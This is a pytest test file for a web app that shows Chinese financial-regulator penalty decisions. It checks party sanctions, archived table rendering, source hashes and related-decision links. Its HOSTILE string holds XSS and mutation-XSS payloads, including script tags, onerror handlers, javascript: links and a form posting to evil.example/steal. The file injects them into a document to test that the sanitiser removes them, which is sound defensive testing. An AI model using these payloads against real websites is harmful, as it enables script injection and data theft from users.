"""The decision page a lawyer cites: the summary with each party's sanctions, the original rendered from the archive
and sanitised, the source URL and archive hash, and the related decisions under the same article and group.

Expected values come from the real documents (tests/fixtures/real/…, the demo corpus bytes) and plain SQL.
"""

from __future__ import annotations

import hashlib
import html as html_module
import json
import re

import lxml.html
import pytest

from crawler.archive import Archive
from db.build import build
from regkb.settings import DATASETTE_DIR
from tests.conftest import FIXTURES, demo_corpus
from tests.web.conftest import app, get, sql

TIANJIN = "nfra:9100001"
TAIPING = "nfra:9100002"


def page(decision_id: str, instance=None) -> str:
    return get(f"/regkb/decisions/{decision_id.replace(':', '~3A')}", instance=instance).text


def section(html: str, css_class: str) -> str:
    match = re.search(rf'<div class="{css_class}">(.*?)</div>\s*(?:{{%|<p|</article>)', html, re.S)
    assert match, css_class
    return match.group(1)


def original(html: str) -> str:
    start = html.index('<div class="regkb-original">')
    return html[start:html.index("</article>", start)]


def text_of(markup: str) -> str:
    return re.sub(r"\s+", "", html_module.unescape(re.sub(r"<[^>]+>", "", markup)))


def test_each_party_is_shown_with_its_own_sanctions():
    # 银保监罚决字〔2021〕35号: 太平财产保险有限公司 罚款50万元; 张雄师 警告并罚款10万元 (decision_taiping_2021_35_full.txt)
    text = (FIXTURES / "real" / "decision_taiping_2021_35_full.txt").read_text(encoding="utf-8")
    assert "罚款50万元" in text and "警告并罚款10万元" in text
    parties = re.findall(r'<section class="regkb-party">(.*?)</section>', page(TAIPING), re.S)
    assert len(parties) == 2
    company, person = (text_of(party) for party in parties)
    assert company.startswith("1.太平财产保险有限公司") and "罚款500,000.00元" in company and "警告" not in company
    assert person.startswith("2.张雄师") and "警告" in person and "罚款100,000.00元" in person
    assert "个人individual" in person and "时任" in person


def test_the_original_table_is_rendered_from_the_archive():
    fixture = lxml.html.fromstring((FIXTURES / "real" / "tianjin_2018_35_penalty_table.html").read_text("utf-8"))
    cells = [re.sub(r"\s+", "", cell.text_content()) for cell in fixture.iter("td")]
    cells = [cell for cell in cells if cell]
    assert len(cells) >= 15
    shown = original(page(TIANJIN))
    shown_text = text_of(shown)
    for cell in cells:
        assert cell in shown_text, cell
    assert shown.count("<td") == len(list(fixture.iter("td")))
    assert 'rowspan="' in shown and 'colspan="' in shown          # the table keeps its shape
    assert not re.search(r"\b(style|class|lang)=", shown.split(">", 1)[1])   # Word's styling is gone
    assert "<o:p" not in shown and "<st1:" not in shown


def test_source_url_and_archive_hash_are_shown():
    body = (demo_corpus("nfra") / "documents" / "9100001.json").read_bytes()
    html = page(TIANJIN)
    assert hashlib.sha256(body).hexdigest() in html
    # the page a person opens on the regulator's site (DOMAIN.md), for docId 9100001 in list 4114
    assert 'href="https://www.nfra.gov.cn/cn/view/pages/ItemDetail.html?docId=9100001&amp;itemId=4114"' in html
    assert "津银监罚决字〔2018〕35号" in html


def test_links_to_other_decisions_under_the_same_article():
    html = page(TIANJIN)
    law, article = "中华人民共和国银行业监督管理法", "第四十六条"
    others = {row[0] for row in sql("select distinct decision_id from citations where law = ? and article = ?"
                                    " and decision_id != ?", [law, article, TIANJIN])}
    block = re.search(rf"<h3>《{law}》{article} <span class=\"count\">(\d+)\+? 份其他决定.*?</section>", html, re.S)
    assert block and int(block.group(1)) == len(others) > 10
    linked = {link.replace("~3A", ":") for link in re.findall(r'href="/regkb/decisions/([^"]+)"', block.group(0))}
    assert len(linked) == 10 and linked <= others
    newest = sql("select max(decision_date) from decisions where decision_id in (%s)" % ",".join("?" * len(others)),
                 list(others))[0][0]
    assert newest in block.group(0)
    precedents = html_module.unescape(re.search(r'href="(/regkb/precedents\?[^"]+)"', block.group(0)).group(1))
    rows = get(precedents.replace("/precedents?", "/precedents.json?") + "&_shape=objects").json()["rows"]
    assert {row["decision_id"] for row in rows} == others | {TIANJIN}


def test_links_to_other_decisions_against_the_same_parent_group():
    decision_id, parent = sql("select decision_id, parent from parties where parent = '中国工商银行' limit 1")[0]
    others = {row[0] for row in sql("select distinct decision_id from parties where parent = ? and decision_id != ?",
                                    [parent, decision_id])}
    html = page(decision_id)
    block = re.search(rf"<h3>{parent} <span class=\"count\">(\d+) 份其他决定.*?</section>", html, re.S)
    assert block and int(block.group(1)) == len(others) > 0
    linked = {link.replace("~3A", ":") for link in re.findall(r'href="/regkb/decisions/([^"]+)"', block.group(0))}
    assert linked == others if len(others) <= 10 else len(linked) == 10
    group_link = html_module.unescape(re.search(r'href="(/regkb/decisions\?parent_groups__arraycontains=[^"]+)"',
                                                block.group(0)).group(1))
    listed = get(group_link.replace("/regkb/decisions?", "/regkb/decisions.json?") + "&_size=max&_shape=objects")
    assert {row["decision_id"] for row in listed.json()["rows"]} == others | {decision_id}


HOSTILE = """
<script>alert('script')</script><style>body { background: url(http://evil.example/style.png) }</style>
<link rel="stylesheet" href="http://evil.example/sheet.css"><meta http-equiv="refresh" content="0;url=http://evil.example/">
<base href="http://evil.example/"><img src="http://evil.example/pixel.gif" onerror="alert('img')">
<iframe src="http://evil.example/frame"></iframe><object data="http://evil.example/flash.swf"></object>
<svg onload="alert('svg')"><image href="http://evil.example/svg.png"/></svg>
<p onclick="alert('click')" style="background-image: url(http://evil.example/p.png)">罚款说明<a href="javascript:alert('link')">点击</a></p>
<form action="http://evil.example/steal"><input name="q" value="x"><button formaction="http://evil.example/b">go</button></form>
<noscript><p title="</noscript><img src=x onerror=alert('mxss')>"></p></noscript>
<math><mtext><table><mglyph><style><img src=x onerror=alert('mathml')></style></mglyph></table></mtext></math>
<table background="http://evil.example/table.png"><tr><td onmouseover="alert('td')">恶意单元格</td></tr></table>
<!--[if gte mso 9]><script>alert('comment')</script><![endif]-->
<video><source onerror="alert('video')"></video><embed src="http://evil.example/embed">
"""


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """The real Tianjin document with a hostile payload injected into its docClob, crawled into an archive and built."""
    folder = tmp_path_factory.mktemp("hostile")
    envelope = json.loads((demo_corpus("nfra") / "documents" / "9100001.json").read_bytes())
    clob = envelope["data"]["docClob"]
    clob = clob.replace("<!--StartFragment-->", "<!--StartFragment-->" + HOSTILE, 1)
    clob = clob.replace("谢永林", "谢永林<script>alert('cell')</script><img src=x onerror=alert('cell')>", 1)
    envelope["data"]["docClob"] = clob
    archive = Archive(folder / "archive")
    fetch = archive.store(json.dumps(envelope, ensure_ascii=False).encode("utf-8"),
                          url="http://127.0.0.1/cbircweb/DocInfo/SelectByDocId?docId=9100001", source="nfra",
                          kind="document", doc_id="9100001", item_id="4114", http_status=200,
                          content_type="application/json")
    archive.judge(fetch.fetch_id, "ok")
    archive.close()
    report = build(folder / "archive", folder / "regkb.db")
    assert report.decisions == 1, report.quarantine_reasons
    return app(folder / "regkb.db")


def test_a_hostile_document_loses_every_script_style_handler_and_remote_resource(hostile):
    html = page(TIANJIN, instance=hostile)
    shown = original(html)
    assert "恶意单元格" in shown and "平安银行股份有限公司" in shown and "谢永林" in shown   # the text survives
    for forbidden in ("<script", "<style", "<img", "<iframe", "<object", "<embed", "<svg", "<math", "<link",
                      "<meta", "<base", "<form", "<input", "<button", "<video", "<source", "<a ", "<noscript",
                      "javascript:", "evil.example", "background", "url("):
        assert forbidden not in shown.lower(), forbidden
    assert not re.search(r"\son\w+\s*=", shown, re.I)
    assert "alert(" not in html and "evil.example" not in html
    # the page has exactly the scripts of the same page for the benign document, none more
    assert html.count("<script") == page(TIANJIN).count("<script")


def test_pages_forbid_loading_from_other_hosts():
    policy = get("/regkb/decisions/nfra~3A9100001").headers["content-security-policy"]
    assert "default-src 'self'" in policy and "object-src 'none'" in policy and "frame-src 'none'" in policy


def test_template_and_plugin_are_where_regkb_serve_finds_them():
    assert (DATASETTE_DIR / "templates" / "row-regkb-decisions.html").exists()
    assert (DATASETTE_DIR / "plugins" / "regkb_decision_page.py").exists()


def test_an_attachment_is_shown_as_its_table_with_its_merged_cells():
    # 上海银罚字[2015]3号 was read from the .xlsx attachment (the first of the seven copies crawled): its page shows
    # the workbook's table, the authority cell merged down all five rows as in the file
    decision_id = sql("select decision_id from decisions where decision_no = '上海银罚字[2015]3号'")[0][0]
    html = page(decision_id)
    assert "An office attachment: shown is the tables and text of the xlsx file" in html
    shown = original(html)
    assert "上海奉贤浦发村镇银行股份有限公司" in text_of(shown) and "罚款人民币98400元" in text_of(shown)
    assert '<td rowspan="5">中国人民银行上海分行</td>' in shown
    assert "<script" not in shown
    parties = re.findall(r'<section class="regkb-party">(.*?)</section>', html, re.S)
    assert len(parties) == 1 and "罚款98,400.00元" in text_of(parties[0])
